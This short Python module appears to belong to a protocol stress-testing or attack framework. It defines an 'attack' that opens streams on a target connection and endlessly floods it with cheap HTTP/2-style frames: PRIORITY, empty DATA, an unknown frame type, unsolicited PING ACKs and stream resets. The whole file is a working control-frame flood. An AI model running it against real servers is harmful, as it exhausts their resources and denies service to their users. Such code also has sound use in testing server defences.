"""Frames that ask for nothing and cost something: priorities, window updates, empty data, unknown ones."""

import wire

WAYS = ("plain",)
FLOOR = {"frames": 5000}
BATCH = 1000


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    stream = connection.open_call(wire.STREAM_DISPLAY)
    some = (wire.frame(wire.PRIORITY, 0, stream, bytes(4) + b"\x10") +
            wire.frame(wire.DATA, 0, stream) + wire.frame(0xee, 0, 0) +
            wire.frame(wire.PING, wire.ACK, 0, bytes(8)) + wire.rst_stream(stream)) * BATCH
    while True:
        connection.send(some)
        target.count("frames", 5 * BATCH)
